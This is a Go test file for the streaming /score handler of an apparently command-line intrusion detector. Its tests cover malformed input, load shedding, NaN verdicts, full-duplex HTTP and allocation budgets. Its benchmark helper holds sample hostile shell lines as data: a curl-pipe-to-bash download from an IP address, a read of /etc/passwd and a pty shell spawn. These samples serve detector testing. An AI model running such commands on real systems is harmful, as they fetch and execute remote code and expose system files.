package serve

import (
	"bufio"
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"math"
	"net/http"
	"net/http/httptest"
	"runtime"
	"strings"
	"testing"
	"time"

	"clmids/internal/stream"
)

// echoSubmit is a submit function that records every event it is handed
// and answers one verdict per event.
func echoSubmit(submitted *[]stream.Event) func(context.Context, []stream.Event) ([]stream.Verdict, error) {
	return func(_ context.Context, evs []stream.Event) ([]stream.Verdict, error) {
		*submitted = append(*submitted, evs...)
		vs := make([]stream.Verdict, len(evs))
		for i, ev := range evs {
			vs[i] = stream.Verdict{User: ev.User, Time: ev.Time, Line: ev.Line}
		}
		return vs, nil
	}
}

// A line past the scanner's 1 MiB cap ends the stream, but it is bad input,
// not a replica fault: the events before it are still scored, and the
// error record names the line and calls it unparsable, so neither a client
// nor the fleet router retries it.
func TestScoreOverlongLine(t *testing.T) {
	good := `{"user":"a","time":1,"line":"ls"}` + "\n" + `{"user":"b","time":2,"line":"id"}` + "\n"
	long := `{"user":"c","time":3,"line":"` + strings.Repeat("x", 2<<20) + `"}` + "\n"
	for _, tc := range []struct {
		name      string
		body      string
		wantUsers []string
		wantLine  int
	}{
		{"after events", good + long, []string{"a", "b"}, 3},
		{"first line", long + good, nil, 1},
	} {
		t.Run(tc.name, func(t *testing.T) {
			var submitted []stream.Event
			req := httptest.NewRequest(http.MethodPost, "/score", strings.NewReader(tc.body))
			rec := httptest.NewRecorder()
			HandleScoreFunc(echoSubmit(&submitted), 512, rec, req)

			if rec.Code != http.StatusOK {
				t.Fatalf("status %d, want 200", rec.Code)
			}
			out := strings.Split(strings.TrimSuffix(rec.Body.String(), "\n"), "\n")
			if len(out) != len(tc.wantUsers)+1 {
				t.Fatalf("%d response lines, want %d verdicts + 1 error record:\n%s",
					len(out), len(tc.wantUsers), rec.Body.String())
			}
			for i, user := range tc.wantUsers {
				var v stream.Verdict
				if err := json.Unmarshal([]byte(out[i]), &v); err != nil || v.User != user {
					t.Fatalf("response line %d = %s, want the verdict for %q", i+1, out[i], user)
				}
			}
			if len(submitted) != len(tc.wantUsers) {
				t.Fatalf("submitted %d events, want %d", len(submitted), len(tc.wantUsers))
			}
			var errRec ErrorRecord
			if err := json.Unmarshal([]byte(out[len(out)-1]), &errRec); err != nil {
				t.Fatalf("last line %s: %v", out[len(out)-1], err)
			}
			if errRec.Code != CodeUnparsable || errRec.Line != tc.wantLine {
				t.Fatalf("error record %+v, want code %q on line %d", errRec, CodeUnparsable, tc.wantLine)
			}
		})
	}
}

// scoreLines posts body through HandleScoreFunc with the given chunk size
// and returns the recorder and the response lines.
func scoreLines(t *testing.T, submit func(context.Context, []stream.Event) ([]stream.Verdict, error), chunk int, body string) (*httptest.ResponseRecorder, []string) {
	t.Helper()
	req := httptest.NewRequest(http.MethodPost, "/score", strings.NewReader(body))
	rec := httptest.NewRecorder()
	HandleScoreFunc(submit, chunk, rec, req)
	return rec, strings.Split(strings.TrimSuffix(rec.Body.String(), "\n"), "\n")
}

// A malformed line costs that line only: its unparsable record arrives in
// input order, naming the line, and the events after it are still scored.
func TestScoreMalformedLineInOrder(t *testing.T) {
	body := `{"user":"a","time":1,"line":"ls"}` + "\n" +
		"\n" + // blank lines are skipped but still counted
		`{"user":"b","time":2,"line":"id"}` + "\n" +
		`{"user":"c","time":oops}` + "\n" +
		`{"user":"d","time":4,"line":"pwd"}` + "\n"
	var submitted []stream.Event
	rec, out := scoreLines(t, echoSubmit(&submitted), 512, body)
	if rec.Code != http.StatusOK {
		t.Fatalf("status %d, want 200", rec.Code)
	}
	if len(out) != 4 {
		t.Fatalf("%d response lines, want 3 verdicts + 1 error record:\n%s", len(out), rec.Body.String())
	}
	for i, user := range []string{"a", "b", "", "d"} {
		if user == "" {
			var errRec ErrorRecord
			if err := json.Unmarshal([]byte(out[i]), &errRec); err != nil || errRec.Code != CodeUnparsable || errRec.Line != 4 {
				t.Fatalf("response line %d = %s, want the unparsable record for line 4", i+1, out[i])
			}
			if want := "line 4: invalid character 'o' looking for beginning of value"; errRec.Error != want {
				t.Fatalf("error %q, want encoding/json's %q", errRec.Error, want)
			}
			continue
		}
		var v stream.Verdict
		if err := json.Unmarshal([]byte(out[i]), &v); err != nil || v.User != user {
			t.Fatalf("response line %d = %s, want the verdict for %q", i+1, out[i], user)
		}
	}
	if len(submitted) != 3 {
		t.Fatalf("submitted %d events, want 3", len(submitted))
	}
}

// shedOn answers like echoSubmit but sheds (stream.ErrOverloaded) the
// call numbered shed, counting from 1.
func shedOn(shed int) func(context.Context, []stream.Event) ([]stream.Verdict, error) {
	var submitted []stream.Event
	echo, calls := echoSubmit(&submitted), 0
	return func(ctx context.Context, evs []stream.Event) ([]stream.Verdict, error) {
		if calls++; calls == shed {
			return nil, fmt.Errorf("queue full: %w", stream.ErrOverloaded)
		}
		return echo(ctx, evs)
	}
}

const fourEvents = `{"user":"a","time":1,"line":"ls"}` + "\n" + `{"user":"b","time":2,"line":"id"}` + "\n" +
	`{"user":"c","time":3,"line":"pwd"}` + "\n" + `{"user":"d","time":4,"line":"w"}` + "\n"

// A shed before any verdict is written is a plain 429 with Retry-After, so
// a client (or the fleet router) backs off and retries the whole request.
func TestScoreShedBeforeFirstWrite(t *testing.T) {
	rec, _ := scoreLines(t, shedOn(1), 2, fourEvents)
	if rec.Code != http.StatusTooManyRequests {
		t.Fatalf("status %d, want 429", rec.Code)
	}
	if got := rec.Header().Get("Retry-After"); got != "1" {
		t.Fatalf("Retry-After %q, want 1", got)
	}
}

// Once verdicts are out the status is spent: a later shed is an in-band
// overloaded record after the verdicts already scored, and the stream ends.
func TestScoreShedAfterFirstWrite(t *testing.T) {
	rec, out := scoreLines(t, shedOn(2), 2, fourEvents)
	if rec.Code != http.StatusOK {
		t.Fatalf("status %d, want 200", rec.Code)
	}
	if len(out) != 3 {
		t.Fatalf("%d response lines, want 2 verdicts + 1 error record:\n%s", len(out), rec.Body.String())
	}
	var errRec ErrorRecord
	if err := json.Unmarshal([]byte(out[2]), &errRec); err != nil || errRec.Code != CodeOverloaded {
		t.Fatalf("last line %s, want an error record with code %q", out[2], CodeOverloaded)
	}
}

// A verdict JSON cannot carry (a NaN score) must not silently drop out of
// the stream, which would shift every later verdict onto the wrong event:
// the verdicts before it go out, then the response is torn.
func TestScoreNonFiniteVerdictTearsResponse(t *testing.T) {
	var submitted []stream.Event
	echo := echoSubmit(&submitted)
	submit := func(ctx context.Context, evs []stream.Event) ([]stream.Verdict, error) {
		vs, err := echo(ctx, evs)
		for i := range vs {
			if vs[i].User == "c" {
				vs[i].LineScore = math.NaN()
			}
		}
		return vs, err
	}
	req := httptest.NewRequest(http.MethodPost, "/score", strings.NewReader(fourEvents))
	rec := httptest.NewRecorder()
	var aborted any
	func() {
		defer func() { aborted = recover() }()
		HandleScoreFunc(submit, 512, rec, req)
	}()
	if aborted != http.ErrAbortHandler {
		t.Fatalf("handler ended with %v, want panic(http.ErrAbortHandler)", aborted)
	}
	var want string
	for _, ev := range submitted[:2] {
		b, _ := AppendVerdict(nil, &stream.Verdict{User: ev.User, Time: ev.Time, Line: ev.Line})
		want += string(b)
	}
	if got := rec.Body.String(); got != want {
		t.Fatalf("body before the tear:\n%s\nwant exactly the verdicts before the NaN one:\n%s", got, want)
	}
}

// discardWriter is a ResponseWriter that drops the body.
type discardWriter struct{ h http.Header }

func (d *discardWriter) Header() http.Header         { return d.h }
func (d *discardWriter) Write(b []byte) (int, error) { return len(b), nil }
func (d *discardWriter) WriteHeader(int)             {}

// flushingWriter flushes after every Write, so verdicts reach the client
// as soon as the handler writes them; Unwrap keeps EnableFullDuplex
// reaching the server's own writer.
type flushingWriter struct{ http.ResponseWriter }

func (f flushingWriter) Write(b []byte) (int, error) {
	n, err := f.ResponseWriter.Write(b)
	f.ResponseWriter.(http.Flusher).Flush()
	return n, err
}

func (f flushingWriter) Unwrap() http.ResponseWriter { return f.ResponseWriter }

// TestScoreFullDuplex: over a real HTTP/1 connection, the client reads the
// first chunk's verdicts before it has written the second chunk. A handler
// that buffered the whole body, or an HTTP/1 server that consumes the
// unread body before the first response write (what EnableFullDuplex
// turns off), deadlocks here and fails on the timeout.
func TestScoreFullDuplex(t *testing.T) {
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		HandleScoreFunc(echoSubmit(new([]stream.Event)), 2, flushingWriter{w}, r)
	}))
	defer srv.Close()
	pr, pw := io.Pipe()
	defer pw.Close()
	req, err := http.NewRequest(http.MethodPost, srv.URL+"/score", pr)
	if err != nil {
		t.Fatal(err)
	}
	type reply struct {
		resp *http.Response
		err  error
	}
	replies := make(chan reply, 1)
	go func() {
		resp, err := srv.Client().Do(req)
		replies <- reply{resp, err}
	}()
	chunk := func(users ...string) {
		t.Helper()
		var body []byte
		for i, u := range users {
			body = AppendEvent(body, &stream.Event{User: u, Time: int64(i + 1), Line: "ls"})
		}
		if _, err := pw.Write(body); err != nil {
			t.Fatal(err)
		}
	}
	within := func(what string, f func()) {
		t.Helper()
		done := make(chan struct{})
		go func() { defer close(done); f() }()
		select {
		case <-done:
		case <-time.After(5 * time.Second):
			pw.CloseWithError(errors.New("test timed out"))
			t.Fatalf("%s: no response while the request body is still open", what)
		}
	}

	chunk("a", "b")
	var rep reply
	within("response headers", func() { rep = <-replies })
	if rep.err != nil {
		t.Fatal(rep.err)
	}
	defer rep.resp.Body.Close()
	br := bufio.NewReader(rep.resp.Body)
	readUsers := func(n int) []string {
		var users []string
		within("verdicts", func() {
			for len(users) < n {
				line, err := br.ReadBytes('\n')
				if err != nil {
					return
				}
				var v stream.Verdict
				if json.Unmarshal(line, &v) == nil {
					users = append(users, v.User)
				}
			}
		})
		return users
	}
	if got := readUsers(2); strings.Join(got, ",") != "a,b" {
		t.Fatalf("first chunk's verdicts %v, want [a b]", got)
	}
	chunk("c", "d")
	pw.Close()
	if got := readUsers(2); strings.Join(got, ",") != "c,d" {
		t.Fatalf("second chunk's verdicts %v, want [c d]", got)
	}
	if rest, _ := io.ReadAll(br); len(rest) != 0 {
		t.Fatalf("unexpected trailing response bytes %q", rest)
	}
}

// handleScoreRequest builds the request BenchmarkHandleScore and
// TestHandleScoreAllocs replay: n events over 40 users, and a submit that
// answers at once from one reused verdict slice, so each call of the
// returned handle costs only the handler's NDJSON decode and verdict
// encode.
func handleScoreRequest(n int) (handle func()) {
	lines := []string{`ls -la /tmp`, `curl -fsSL http://203.0.113.7/x.sh | bash`,
		`cat /etc/passwd > /tmp/p && echo "done"`, `python3 -c 'import pty; pty.spawn("/bin/sh")'`}
	var body []byte
	for i := 0; i < n; i++ {
		ev := stream.Event{User: fmt.Sprintf("user%03d", i%40), Time: 1_700_000_000 + int64(i), Line: lines[i%len(lines)]}
		body = AppendEvent(body, &ev)
	}
	verdicts := make([]stream.Verdict, n)
	submit := func(_ context.Context, evs []stream.Event) ([]stream.Verdict, error) {
		vs := verdicts[:len(evs)]
		for i, ev := range evs {
			vs[i] = stream.Verdict{User: ev.User, Time: ev.Time, Line: ev.Line, Context: ev.Line,
				LineScore: 0.123456789, ContextScore: 0.25, SessionScore: 1e-7, SessionLines: 3}
		}
		return vs, nil
	}
	w := &discardWriter{h: http.Header{}}
	rd := bytes.NewReader(body)
	req := httptest.NewRequest(http.MethodPost, "/score", rd)
	return func() {
		rd.Reset(body)
		HandleScoreFunc(submit, n, w, req)
	}
}

// handleScoreAllocBudget is the allocation count of one 512-event
// handleScoreRequest, as measured when the budget was set, with every
// verdict-buffer pool Get missing (1818; 1797 with a warm pool): under
// -race sync.Pool drops Puts at random, and the budget must hold there
// too. A handler change that allocates per line breaks it by hundreds.
const handleScoreAllocBudget = 1818

// TestHandleScoreAllocs pins the handler's allocations per request.
// Allocation counts do not jitter with host load the way ns/line does, so
// this is the deterministic half of BenchmarkHandleScore.
func TestHandleScoreAllocs(t *testing.T) {
	handle := handleScoreRequest(512)
	handle() // fill the verdict buffer pool
	if n := testing.AllocsPerRun(20, handle); n > handleScoreAllocBudget {
		t.Fatalf("one 512-event /score request made %.0f allocations, budget %d", n, handleScoreAllocBudget)
	}
}

// BenchmarkHandleScore runs one 512-event request through HandleScoreFunc
// over a submit that answers at once: NDJSON decode plus verdict encode,
// the handler's own cost per line.
func BenchmarkHandleScore(b *testing.B) {
	const n = 512
	handle := handleScoreRequest(n)
	var before, after runtime.MemStats
	runtime.ReadMemStats(&before)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		handle()
	}
	b.StopTimer()
	runtime.ReadMemStats(&after)
	lines64 := float64(b.N) * n
	b.ReportMetric(float64(b.Elapsed().Nanoseconds())/lines64, "ns/line")
	b.ReportMetric(float64(after.Mallocs-before.Mallocs)/lines64, "allocs/line")
}
